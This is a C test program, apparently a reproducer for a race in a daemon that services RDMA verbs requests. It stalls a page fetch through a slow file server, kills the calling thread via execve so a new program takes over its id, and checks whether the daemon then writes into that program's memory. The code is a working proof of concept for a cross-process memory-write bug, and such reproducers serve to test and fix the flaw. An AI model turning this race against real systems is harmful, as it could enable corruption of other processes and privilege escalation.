/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * dead: a borrowed thread dies while the daemon reads its memory, and another program has its id when the daemon
 * writes.
 *
 * The first thread of a process calls GET_CONTEXT. Its system call instruction is in a page that the file server does
 * not answer yet: the daemon, which has stopped the thread, waits for that page. Another thread executes a program,
 * which kills the first thread and takes over its id. Then the page arrives without a system call instruction, and
 * the daemon writes the number that stands for "no event file".
 *
 * Start as root, which mounts the file system and then becomes USER. Prints "reached" if the daemon changed the
 * memory of the next program, else "not reached".
 */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "uv.h"
#include "slow.h"

enum { PAGE = 4096, CODE = 0x10000000, TARGET = 0x30000000 };
enum { USER = 1000, REACHED = 3, NOT_REACHED = 4 };

static const uint8_t code[] = { 0x0f, 0x05, 0xc3 }; /* syscall; ret */
static int orders[2], done[2];
static struct slow slow;

static char *map(int address, int prot, int fd, int page)
{
	int flags = MAP_PRIVATE | MAP_FIXED | (fd < 0 ? MAP_ANONYMOUS : 0);
	char *p = mmap((void *)(uintptr_t)address, PAGE, prot, flags, fd, page * PAGE);

	MUST(p != MAP_FAILED);
	return p;
}

/* The next program. A write to TARGET means that the daemon took this program for the client. */
static int victim(void)
{
	volatile char *target = map(TARGET, PROT_READ | PROT_WRITE, -1, 0);

	nap(4000);
	for (int i = 0; i < PAGE; i++)
		if (target[i])
			return REACHED;
	return NOT_REACHED;
}

static void *other_thread(void *arg)
{
	char *args[] = { "dead", "victim", NULL }, *env[] = { NULL }, c;

	MUST(read(orders[0], &c, 1) == 1);
	map(CODE, PROT_READ | PROT_EXEC, slow.file, 1);
	MUST(write(done[1], "m", 1) == 1 && read(orders[0], &c, 1) == 1);
	execve("/proc/self/exe", args, env);
	_exit(1);
}

static void client(void)
{
	long (*call)(void) = (long (*)(void))(uintptr_t)CODE;
	pthread_t thread;
	int fd = uv_open();
	char *tree;
	long ret;

	MUST(fd >= 0 && !pthread_create(&thread, NULL, other_thread, NULL));
	memcpy(map(CODE, PROT_READ | PROT_WRITE | PROT_EXEC, -1, 0), code, sizeof(code));
	map(TARGET, PROT_READ | PROT_WRITE, -1, 0);
	tree = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, slow.file, 0);
	MUST(tree != MAP_FAILED);
	asm volatile("call *%[call]"
		     : "=a"(ret)
		     : [call] "r"(call), "a"((long)SYS_ioctl), "D"((long)fd), "S"(RDMA_VERBS_IOCTL), "d"(tree)
		     : "rcx", "r11", "memory");
	_exit(ret ? 1 : 2);
}

/* Fills the file's first page: the daemon reads the client's command from it. */
static void make_command(void)
{
	static const struct ib_uverbs_get_context in;
	struct uv_tree tree;

	uv_tree_init(&tree, UVERBS_OBJECT_DEVICE, UVERBS_METHOD_INVOKE_WRITE);
	uv_attr_const(&tree, UVERBS_ATTR_WRITE_CMD, IB_USER_VERBS_CMD_GET_CONTEXT);
	uv_attr_in(&tree, UVERBS_ATTR_CORE_IN, &in, sizeof(in));
	uv_attr_out(&tree, UVERBS_ATTR_CORE_OUT, (void *)(uintptr_t)(TARGET + 64),
		    sizeof(struct ib_uverbs_get_context_resp));
	tree.hdr.length = sizeof(tree.hdr) + tree.hdr.num_attrs * sizeof(struct ib_uverbs_attr);
	memcpy(slow.content, &tree, sizeof(tree));
}

int main(int argc, char **argv)
{
	int status;
	pid_t pid;
	char c;

	if (argc > 1 && !strcmp(argv[1], "victim"))
		return victim();
	slow_mount_for(USER);
	slow_start(&slow);
	make_command();
	MUST(!pipe(orders) && !pipe(done));
	pid = fork();
	MUST(pid >= 0);
	if (!pid)
		client();
	MUST(slow_asked(&slow, 60000)); /* the daemon reads the command */
	MUST(write(orders[1], "m", 1) == 1 && read(done[0], &c, 1) == 1);
	slow_answer(&slow);
	MUST(slow_asked(&slow, 60000)); /* it reads the instruction */
	MUST(write(orders[1], "x", 1) == 1);
	nap(2000);
	slow_open_gate(&slow);
	MUST(waitpid(pid, &status, 0) == pid && WIFEXITED(status));
	MUST(WEXITSTATUS(status) == REACHED || WEXITSTATUS(status) == NOT_REACHED);
	printf("%s\n", WEXITSTATUS(status) == REACHED ? "reached" : "not reached");
	return 0;
}
